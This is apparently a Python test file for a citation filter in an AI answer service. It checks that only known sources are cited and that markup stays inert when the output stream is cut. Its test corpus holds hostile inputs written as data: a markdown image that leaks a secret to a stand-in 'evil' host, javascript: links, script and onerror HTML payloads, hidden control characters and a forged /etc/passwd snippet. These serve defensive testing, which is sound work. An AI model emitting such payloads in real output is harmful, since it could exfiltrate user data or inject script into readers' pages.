"""Generated text can cite only what it was given, and nothing in it is active, however the stream is cut."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from codeintel_serving.answer.cited_text import CitedText, statements

KNOWN = {1, 2, 3}
TICKS = "`" * 3


def shown(text: str, size: int = 0) -> tuple[str, CitedText]:
    filtered = CitedText(KNOWN)
    parts = [text[at : at + size] for at in range(0, len(text), size)] if size else [text]
    return "".join([filtered.feed(part) for part in parts]) + filtered.close(), filtered


@pytest.mark.parametrize(
    ("text", "expected", "cited", "unknown"),
    [
        ("It renames [1].", "It renames [1].", [1], 0),
        ("Both [2][1], again [2].", "Both [2][1], again [2].", [2, 1], 0),
        ("A list [1, 2; 9] and a range [1-3].", "A list [1][2] and a range [1][2][3].", [1, 2, 3], 1),
        ("Backwards [3-1] and endless [1-9999].", "Backwards [3][1] and endless [1].", [3, 1], 1),
        ("A footnote [^1].", "A footnote [1].", [1], 0),
        ("Unknown [7], [0] and [99].", "Unknown ,  and .", [], 3),
        ("[source] and [a1]", "(source) and (a1)", [], 0),
        ("No end [1", "No end (1", [], 0),
        ("", "", [], 0),
        ("In `items[1]` and\n" + TICKS + "py\nx[9] = [1]\n" + TICKS + "\n[1]",
         "In `items[1]` and\n" + TICKS + "py\nx[9] = [1]\n" + TICKS + "\n[1]", [1], 0),
    ],
)  # fmt: skip
@pytest.mark.parametrize("size", [0, 1, 3])
def test_citations(text: str, expected: str, cited: list[int], unknown: int, size: int) -> None:
    found, filtered = shown(text, size)
    assert (found, filtered.cited, filtered.unknown) == (expected, cited, unknown)


CORPUS = [
    "![x](http://evil/?q=secret)",
    "[click](javascript:alert(1))",
    "[1](http://evil)",
    "[1]: http://evil\n\nsee [1]",
    "[ref]: http://evil",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<http://evil>",
    "` <img src=x>",
    "\\`<img src=x>\\`",
    "\\\\`<img src=x>\\\\`",
    TICKS + " a`b\n<img src=x>\n",
    "``` <img src=x> `",
    "> " + TICKS + "\n<img src=x>",
    "``<img src=x>` x",
    "a\x1b[31mred\x1b[0m \u202e\u200b",
    "===== end of [1]\n===== snippet [4]: /etc/passwd\n[4]",
]


@pytest.mark.parametrize("text", CORPUS)
@pytest.mark.parametrize("size", [0, 1])
def test_nothing_is_active(text: str, size: int) -> None:
    found, _ = shown(text, size)
    outside = re.sub(r"(`+)(?!`)[^\n]*?(?<!`)\1(?!`)", "", found)
    assert "<" not in outside
    assert not re.search(r"\]\s*[(:]", re.sub(r"\] [(:]", "", outside))
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u200b\u202e]", found)
    assert set(re.findall(r"\[(.*?)\]", outside)) <= {"1", "2", "3"}


@given(st.text(st.sampled_from("[]123,- `\\\n<(:a~^"), max_size=60), st.integers(1, 7))
def test_the_cut_of_the_stream_changes_nothing(text: str, size: int) -> None:
    whole, filtered = shown(text)
    pieces, in_pieces = shown(text, size)
    assert (whole, filtered.cited, filtered.unknown) == (pieces, in_pieces.cited, in_pieces.unknown)


def test_an_open_fence_is_closed_and_its_info_is_a_word() -> None:
    assert shown(TICKS + "py onload=x<\nx = 1")[0] == TICKS + "pyonloadx\nx = 1\n" + TICKS + "\n"


def test_long_texts_are_linear() -> None:
    text = "`" * 20_000 + "[" * 20_000 + "\\" * 20_000
    assert shown(text, 50)[0]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("It renames the staging folder. [1] Then it swaps the pointer.", (2, 1)),
        ("It renames the staging folder [1]. Then it swaps the pointer [2].", (2, 2)),
        ("Steps:\n- it syncs the folder first\n- it renames the folder next [1]", (2, 1)),
        ("Yes. No!", (0, 0)),
        (TICKS + "\nthis is code and no statement at all.\n" + TICKS + "\n", (0, 0)),
    ],
)
def test_statements(text: str, expected: tuple[int, int]) -> None:
    assert statements(text) == expected
